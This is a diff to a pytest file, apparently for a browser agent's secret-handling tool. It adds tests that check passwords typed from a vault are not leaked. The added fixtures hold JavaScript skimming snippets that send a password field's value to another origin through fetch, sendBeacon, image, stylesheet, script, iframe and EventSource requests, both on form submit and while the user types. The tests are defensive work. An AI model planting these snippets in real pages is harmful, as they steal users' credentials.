@@ -34,7 +34,19 @@ REFUSED_ON_THE_WAY = {
     "fetched": f"<form onsubmit=\"event.preventDefault();fetch('/s?p='+encodeURIComponent(pw.value))\">{FIELD}<button>Go</button></form>",
     "posted-elsewhere": f"<form onsubmit=\"event.preventDefault();fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:pw.value}})\">{FIELD}<button>Go</button></form>",
     "beacon-elsewhere": f"<form onsubmit=\"event.preventDefault();navigator.sendBeacon('{{other}}/in',JSON.stringify({{a:pw.value}}))\">{FIELD}<button>Go</button></form>",
+    "image-elsewhere": f"<form onsubmit=\"event.preventDefault();new Image().src='{{other}}/in?x='+encodeURIComponent(pw.value)\">{FIELD}<button>Go</button></form>",
     "multipart-elsewhere": f"<form onsubmit=\"event.preventDefault();var d=new FormData();d.append('x',pw.value);fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:d}})\">{FIELD}<button>Go</button></form>",
+}
+WHILE_TYPED = {
+    "image": "new Image().src=to+'/in?x='+v",
+    "own-image": "new Image().src='/in?x='+v",
+    "posted": "fetch(to+'/in',{method:'POST',mode:'no-cors',body:pw.value})",
+    "asked-for": "fetch(to+'/in?x='+v,{mode:'no-cors'})",
+    "beacon": "navigator.sendBeacon(to+'/in',pw.value)",
+    "stylesheet": "document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:to+'/in?x='+v}))",
+    "script": "document.head.append(Object.assign(document.createElement('script'),{src:to+'/in?x='+v}))",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'),{src:to+'/in?x='+v}))",
+    "events": "new EventSource(to+'/in?x='+v)",
 }
 SENT = {
     "post": f"<form method=post action=/in>{FIELD}<button>Go</button></form>",
@@ -95,6 +107,21 @@ async def test_what_was_typed_is_not_sent_astray(
     assert "'shop'" in told, told
     assert VALUE not in told
     assert "secret.bound" in (tmp_path / "events.jsonl").read_text()
+
+
+@pytest.mark.parametrize("case", WHILE_TYPED)
+async def test_what_is_being_typed_is_not_sent_astray(
+    session: Session, serve: Callable[..., str], tmp_path: Path, case: str
+) -> None:
+    code = f"const to='{{other}}',v=encodeURIComponent(pw.value);{WHILE_TYPED[case]};fetch('/s?done')"
+    site = Site(serve, f"{FIELD}<script>pw.oninput=()=>{{{code}}}</script>")
+    vault = Vault({"shop": VALUE})
+    with door_kit(session, site.url, tmp_path, gate=site.gate, vault=vault) as kit:
+        await kit("navigate", url=site.url)
+        typed = await kit("type_text", target="Password", text="secret:shop")
+    assert typed.ok, typed.error
+    assert "'shop'" in "".join(section.text for section in typed.sections)
+    assert site.arrived == ["GET /s"]
 
 
 @pytest.mark.parametrize("case", SENT)
